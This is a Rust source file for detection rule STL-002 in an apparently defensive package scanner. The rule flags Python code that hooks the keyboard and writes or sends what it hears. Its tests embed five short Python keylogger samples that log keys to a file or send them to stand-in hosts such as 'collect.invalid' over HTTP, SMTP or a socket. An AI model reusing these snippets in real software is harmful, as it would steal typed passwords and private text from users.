//! `STL-002`: key strokes are written to a file or sent.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::evidence::is_harmful;
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Context, Folded, Label, Module, SinkKind};

/// The rule.
pub(super) struct KeyLogger;

impl Rule for KeyLogger {
    fn id(&self) -> &'static str {
        "STL-002"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "it records key strokes"
    }

    fn manual(&self) -> &'static str {
        "What hears every key writes what it hears to a file or sends it.\n\n\
         Passwords are typed. A program that only reacts to a key combination keeps nothing.\n\n\
         Mistaken for it: programs with hot keys, which neither write nor send what they hear, \
         and tools that record macros, when a user calls them."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let leaves = matches!(
                flow.kind,
                SinkKind::Send | SinkKind::Resolve | SinkKind::Write
            );
            if flow.label != Label::Keys || !leaves {
                continue;
            }
            let severity = even_if_asked(Severity::High, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!("{} gets key strokes", analysis.sink(flow).target);
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        self.observe_polling(analysis, observations);
        for module in &analysis.modules {
            let Some(listening) = listening(module) else {
                continue;
            };
            let Some(call) = module.calls.iter().find(|call| keeps(module, call)) else {
                continue;
            };
            let is_heard = is_called_back(module, &call.function);
            let context = if is_heard {
                listening.max(call.context)
            } else {
                call.context
            };
            let severity = in_context(Severity::High, context);
            let confidence = Confidence::of(75).in_context(context);
            let message = format!("{} keeps or sends what a keyboard hook heard", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

impl KeyLogger {
    /// Keys that are polled where nobody asks for it, in a distribution that sends something there, too.
    fn observe_polling(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let mut unasked = analysis.calls().filter(|call| call.context.is_unasked());
        let Some(call) = unasked.find(|call| polls(call)) else {
            return;
        };
        let sends = |each: &Call| {
            each.context.is_unasked()
                && each.sink == Some(SinkKind::Send)
                && each
                    .arguments
                    .iter()
                    .any(|each| !each.labels.has(Label::Const))
        };
        let Some(sent) = analysis.calls().find(|each| sends(each)) else {
            return;
        };
        let severity = in_context(Severity::High, call.context);
        let confidence = Confidence::of(90).in_context(call.context);
        let message = format!(
            "{} asks which keys are held, and {} sends",
            call.target, sent.target
        );
        observations.push(observe_call(self, call, (severity, confidence), message));
    }
}

fn listens(call: &Call) -> bool {
    matches!(
        &*call.target,
        "pynput.keyboard.Listener"
            | "keyboard.hook"
            | "keyboard.on_press"
            | "keyboard.on_release"
            | "keyboard.record"
            | "evdev.InputDevice"
    ) || call.target.ends_with(".HookKeyboard")
        || call.target.ends_with(".SetWindowsHookExA")
        || polls(call)
}

/// Whether the call asks which keys are held, which only what listens to all of them does over and over.
fn polls(call: &Call) -> bool {
    [".GetAsyncKeyState", ".GetKeyState", ".GetKeyboardState"]
        .iter()
        .any(|name| call.target.ends_with(name))
}

/// The strictest context in which `module` asks for all keys.
fn listening(module: &Module) -> Option<Context> {
    let calls = module
        .calls
        .iter()
        .filter(|call| listens(call))
        .map(|call| call.context);
    let hooks = module.patches.iter().filter(|patch| is_hook(&patch.target));
    calls.chain(hooks.map(|patch| patch.context)).max()
}

fn is_hook(target: &str) -> bool {
    target.contains("HookManager") && target.contains("Key")
}

/// Whether `call` sends something that is not constant, or stands in what the hook calls and
/// writes.
fn keeps(module: &Module, call: &Call) -> bool {
    let is_variable = call
        .arguments
        .iter()
        .any(|each| !each.labels.has(Label::Const));
    let is_heard = !call.function.is_empty() && is_called_back(module, &call.function);
    match call.sink {
        Some(SinkKind::Send) => is_variable && is_harmful(call),
        Some(SinkKind::Write) => is_variable && is_heard,
        _ => false,
    }
}

/// Whether `function` is what a keyboard hook of `module` calls.
fn is_called_back(module: &Module, function: &str) -> bool {
    let names = |value: &Folded| matches!(value, Folded::Name(name) if &**name == function);
    let listened = module.calls.iter().filter(|call| listens(call));
    listened
        .flat_map(|call| &call.arguments)
        .any(|each| names(&each.value))
        || module
            .patches
            .iter()
            .any(|patch| is_hook(&patch.target) && names(&patch.value))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn recorded_keys_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "from pynput import keyboard\ndef press(key):\n    with open('log.txt', 'a') as f:\n        f.write(str(key))\nkeyboard.Listener(on_press=press).start()",
            ),
            (
                "demo/__init__.py",
                "import keyboard, requests\nheard = []\ndef on(e):\n    heard.append(e.name)\n    requests.post('https://collect.invalid', data=str(heard))\nkeyboard.on_press(on)",
            ),
            (
                "demo/__init__.py",
                "from pynput.keyboard import Listener as L\nimport smtplib\nlog = ''\ndef p(k):\n    global log\n    log += str(k)\ndef mail():\n    s = smtplib.SMTP('mail.invalid')\n    s.sendmail('a@b.invalid', 'c@d.invalid', log)\nL(on_press=p).start()\nmail()",
            ),
            (
                "demo/__init__.py",
                "import keyboard, socket\ns = socket.socket()\ns.send(keyboard.read_key().encode())",
            ),
            (
                "demo/__init__.py",
                "import pyHook, requests\ndef down(event):\n    requests.post('https://collect.invalid', data=event.Key)\n    return True\nhm = pyHook.HookManager()\nhm.KeyDown = down\nhm.HookKeyboard()",
            ),
        ] {
            found("STL-002", path, code);
        }
    }

    #[test]
    fn hot_keys_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import keyboard\nkeyboard.add_hotkey('ctrl+a', print)",
            ),
            (
                "demo/__init__.py",
                "from pynput import keyboard\ndef press(key):\n    if key == keyboard.Key.esc:\n        return False\nkeyboard.Listener(on_press=press)",
            ),
        ] {
            quiet("STL-002", path, code);
        }
    }
}
